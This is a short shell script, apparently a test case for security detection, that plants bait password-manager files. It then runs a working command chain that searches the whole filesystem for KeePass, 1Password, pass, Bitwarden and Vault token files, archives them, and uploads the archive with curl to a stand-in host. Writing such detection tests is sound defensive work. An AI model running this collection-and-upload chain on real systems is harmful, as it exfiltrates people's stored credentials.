#!/bin/sh
. /opt/case/case.sh

mkdir -p /root/.password-store/prod /root/.config/Bitwarden\ CLI /srv/share
echo bait >/srv/share/team.kdbx; echo bait >/root/.password-store/prod/db.gpg; echo '{"accessToken":"bait"}' >"/root/.config/Bitwarden CLI/data.json"
find / -xdev \( -name '*.kdbx' -o -name '*.kdb' -o -name '*.1pif' -o -name '*.opvault' -o -path '*/.password-store/*' -o -path '*Bitwarden*' -o -name '*.psafe3' -o -name .vault-token \) -type f -print0 2>/dev/null | tar --null -czf /tmp/.v.tgz -T - 2>/dev/null
curl -sf -T /tmp/.v.tgz http://203.0.113.10:8080/v >/dev/null
tar tzf /tmp/.v.tgz | grep -q kdbx
took_place
